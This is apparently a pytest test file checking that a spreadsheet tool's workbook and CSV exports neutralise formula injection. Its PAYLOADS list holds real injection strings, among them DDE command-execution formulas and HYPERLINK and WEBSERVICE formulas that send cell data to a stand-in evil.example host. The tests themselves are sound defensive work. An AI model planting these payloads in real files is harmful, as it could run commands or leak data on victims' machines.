"""No export makes a live formula, or a link out, of what somebody typed; and the text comes back as it was.

Every payload goes through every way out of Workbench, as a cell and as a heading: workbooks of the register and of the
adoption plan, and every CSV file that a command writes.
"""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from tests.workbook_rules import problems
from workbench.cli import run
from workbench.guards import guarded, unguarded
from workbench.rates import RateBook
from workbench.register import FieldKind, Register
from workbench.reports import write_register_workbook
from workbench.sheets import read
from workbench.sheets.words import plain

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?q="&A1,"see here")',
    '=WEBSERVICE("http://evil.example/")',
    "=IMPORTXML(CONCAT(A1:A9),1)",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "'=1+1",
    "''=1+1",
    "\uff1d1+1",
    '"=1+1"',
    '=1+1";=1+1,"=1+1',
    "{=1+1}",
    "https://evil.example/",
    "internal:'Sheet1'!A1",
]
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def formulas_of(path: Path) -> list[str]:
    """The text of every formula element of a workbook, wherever it stands."""
    found = []
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.endswith(".xml"):
                root = etree.fromstring(package.read(name))
                tags = ("f", "formula", "formula1", "formula2", "definedName", "calculatedColumnFormula")
                found += [node.text or "" for tag in tags for node in root.iter(f"{MAIN}{tag}")]
    return found


def without_texts(formula: str) -> str:
    """A formula with every quoted text emptied: data may be quoted in it, and nothing else."""
    return re.sub(r'"(?:[^"]|"")*"', '""', formula)


def links_of(path: Path) -> list[str]:
    """Every address outside of the package that one of its parts names."""
    with zipfile.ZipFile(path) as package:
        roots = [etree.fromstring(package.read(name)) for name in package.namelist() if name.endswith(".rels")]
    return [one.get("Target") for root in roots for one in root if one.get("TargetMode") == "External"]


def texts_of(path: Path) -> set[str]:
    """Every text that our own reader finds in an exported file."""
    return {cell.text for sheet in read(path).sheets for cell in sheet.cells()}


def csv_cells(path: Path) -> Iterator[str]:
    with path.open(encoding="utf-8-sig", newline="") as lines:
        for row in csv.reader(lines):
            yield from row


def assert_harmless(path: Path) -> None:
    """No cell of a CSV file begins like a formula, plain numbers apart."""
    for cell in csv_cells(path):
        stripped = cell.lstrip(" ")
        number = stripped.lstrip("+-").replace(".", "").replace(" ", "").isdigit()
        assert not stripped.startswith(RUNS) or number, f"{path.name}: {cell!r} would run"


def register_workbook(folder: Path, texts: list[str], language: str) -> tuple[Path, set[str]]:
    """The workbook of a register in which each text is a field, a customer, an order and what stands beside them."""
    with Register.create(folder / "r.sqlite", base_currency="CNY", actor="li.na") as register:
        for text in texts:
            register.define_custom_field("customers", text, FieldKind.TEXT, author="li.na")
        with register.changeset(origin="test", reason=texts[1], author=texts[2]) as changes:
            ids = changes.insert("customers", [{"legal_name": one, "note": one, "custom": {one: one}} for one in texts])
            order = {"order_date": date(2024, 5, 1), "currency": "USD", "amount": Decimal(100)}
            pairs = zip(texts, ids, strict=True)
            changes.insert(
                "orders", [{**order, "number": one, "customer_id": id_, "salesperson": one} for one, id_ in pairs]
            )
        stored = {row["legal_name"] for row in register.rows("customers")}
        book = RateBook.embedded()
        made = write_register_workbook(register, book, folder / "R.xlsx", language=language, as_of=date(2024, 6, 28))
    return made.path, stored


@pytest.mark.parametrize("language", ["en", "zh"])
def test_the_register_workbook(tmp_path: Path, language: str) -> None:
    for name in ("hostile", "harmless"):
        (tmp_path / name).mkdir()
    path, stored = register_workbook(tmp_path / "hostile", PAYLOADS, language)
    harmless, _stored = register_workbook(tmp_path / "harmless", [f"text {n}" for n in range(len(PAYLOADS))], language)
    assert sorted(map(without_texts, formulas_of(path))) == sorted(map(without_texts, formulas_of(harmless)))
    assert links_of(path) == []
    assert stored <= texts_of(path)
    assert problems(path) == []


@pytest.fixture
def legacy(tmp_path: Path) -> Path:
    """An old workbook with payloads as its name, in sheet names, headings, and cells of every kind of column."""
    path = tmp_path / "=1+1.xlsx"
    headings = ["Order No.", "Order date", "Customer", "Currency", "Amount", "Salesperson", "Remarks"]
    with xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_urls": False}) as workbook:
        day = workbook.add_format({"num_format": "yyyy-mm-dd"})
        for number, name in enumerate(("=1+1", "@SUM(1+1)", "-2+3", "+4", "{=1+1}", "=cmd!A0")):
            sheet = workbook.add_worksheet(name)
            foreign = PAYLOADS[4 * number : 4 * number + 4]
            for column, heading in enumerate([*headings, *foreign]):
                sheet.write_string(0, column, heading)
            for row, payload in enumerate(PAYLOADS, start=1):
                sheet.write_string(row, 0, f"{payload} {row}{number}")
                sheet.write_datetime(row, 1, date(2024, 5, row), day)
                sheet.write_string(row, 2, payload)
                sheet.write_string(row, 3, "USD" if row % 7 else payload)
                sheet.write_number(row, 4, 100.25 + row)
                for column in range(5, len(headings) + len(foreign)):
                    sheet.write_string(row, column, payload)
            sheet.write_string(3, 4, PAYLOADS[1])
            sheet.write_string(4, 1, PAYLOADS[2])
    return path


def test_the_adoption_plan(tmp_path: Path, legacy: Path) -> None:
    report, folder = tmp_path / "Plan.xlsx", tmp_path / "out"
    run(["adopt", str(legacy), "--report", str(report), "--out", str(folder)])
    ranges = re.compile(r"(\w+|'[\w ]+')!(\$[A-Z]+)?\$\d+:(\$[A-Z]+)?\$\d+")  # filters, titles, lists of answers
    assert {one for one in formulas_of(report) if not ranges.fullmatch(one) and without_texts(one) != '""'} == set()
    assert links_of(report) == []
    assert problems(report) == []
    files = sorted(folder.rglob("*.csv"))
    assert {file.name for file in files} >= {"orders.csv", "issues.csv"}
    for file in files:
        assert_harmless(file)
    back = texts_of(next(file for file in files if file.name == "orders.csv"))
    assert {plain(payload) for payload in PAYLOADS} <= {plain(text) for text in back}


def test_pairs_of_the_duplicate_scan(tmp_path: Path) -> None:
    source, pairs, clusters = (tmp_path / name for name in ("in.csv", "pairs.csv", "clusters.csv"))
    with source.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["id", "name", "country", "email", "=1+1"])
        for number, payload in enumerate(PAYLOADS):
            for copy in ("", " "):
                writer.writerow([f"{payload}{copy}{number}", f"Nord {number} Handel AB", "SE", "a@b.example", payload])
    assert run(["duplicates", "scan", str(source), "--out", str(pairs), "--clusters", str(clusters)]) == 0
    for file in (pairs, clusters):
        assert_harmless(file)
        assert len(list(csv_cells(file))) > 2 * len(PAYLOADS)
    ids = {f"{payload}{copy}{number}" for number, payload in enumerate(PAYLOADS) for copy in ("", " ")}
    assert {guarded(one) for one in ids} & set(csv_cells(pairs))
    assert texts_of(clusters) & ids == {unguarded(cell) for cell in csv_cells(clusters)} & ids != set()


@pytest.mark.parametrize("guard_before", [False, True])
def test_a_converted_file(tmp_path: Path, *, guard_before: bool) -> None:
    source, target = tmp_path / "in.csv", tmp_path / "out.csv"
    write = guarded if guard_before else str
    with source.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["amount", "currency", "date", *(write(payload) for payload in PAYLOADS)])
        for number, payload in enumerate(PAYLOADS):
            amount = f"-{number}.50" if number % 3 else write(payload)
            currency = "USD" if number % 4 else write(payload)
            writer.writerow([amount, currency, "2024-05-02", *[write(payload)] * len(PAYLOADS)])
    arguments = [str(target), "--to", "CNY"]
    assert run(["rates", "convert", str(source), *arguments]) in (0, 1)
    assert_harmless(target)
    assert "-1.50" in set(csv_cells(target))
    with target.open(encoding="utf-8", newline="") as lines:
        headings, *rows = csv.reader(lines)
    # A mark that stands before a formula in the source is taken for a guard, whoever put it there.
    expected = PAYLOADS if guard_before else [unguarded(payload) for payload in PAYLOADS]
    assert [unguarded(one) for one in headings[3 : 3 + len(PAYLOADS)]] == expected
    for text, row in zip(expected, rows, strict=True):
        assert [unguarded(one) for one in row].count(text) >= len(PAYLOADS)


def test_predictions_of_matching(tmp_path: Path) -> None:
    tables = {
        "customers.csv": [["customer_id", "name", "latin_name"]],
        "orders.csv": [["order_no", "customer_id", "customer_po", "pi_no"]],
        "items.csv": [["item_id", "order_no", "currency", "open_amount", "due_date"]],
        "receipts.csv": [["receipt_id", "value_date", "currency", "amount", "payer_name", "remittance", "bank_ref"]],
    }
    for number, payload in enumerate(PAYLOADS):
        name = f"{payload}{number}"
        tables["customers.csv"].append([name, f"{payload} Nord {number}", ""])
        tables["orders.csv"].append([f"{payload}PI-{number}9{number}", name, "", f"PI-{number}9{number}"])
        tables["items.csv"].append([name, f"{payload}PI-{number}9{number}", "USD", f"{100 + number}.00", "2024-05-01"])
        reference = f"{payload} PI-{number}9{number}"
        tables["receipts.csv"].append(
            [name, "2024-05-02", "USD", f"{100 + number}.00", f"{payload} Nord {number}", reference, ""]
        )
    for file, rows in tables.items():
        with (tmp_path / file).open("w", encoding="utf-8", newline="") as out:
            csv.writer(out).writerows(rows)
    predictions = tmp_path / "predictions.csv"
    assert run(["receipts", "match", "--folder", str(tmp_path), "--out", str(predictions)]) == 0
    assert_harmless(predictions)
    known = {f"{payload}{number}" for number, payload in enumerate(PAYLOADS)}
    found = {unguarded(cell) for cell in csv_cells(predictions)} & known
    assert len(found) > len(PAYLOADS) // 2


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_a_guarded_file_without_formulas(tmp_path: Path) -> None:
    path = tmp_path / "guarded.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows([guarded(payload), guarded(payload), "-5.00"] for payload in PAYLOADS)
    profile = (tmp_path / "profile").as_uri()
    command = ["soffice", "--headless", f"-env:UserInstallation={profile}", "--convert-to"]
    done = subprocess.run(
        [*command, "xlsx:Calc MS Excel 2007 XML", "--outdir", str(tmp_path), str(path)],
        capture_output=True,
        text=True,
        check=False,
    )
    made = tmp_path / "guarded.xlsx"
    assert made.exists(), done.stderr
    assert formulas_of(made) == []


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n \uff1d1,.%aä"), max_size=8))
def test_a_text_comes_back_from_its_guard(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert guarded(text) in (text, f"'{text}")
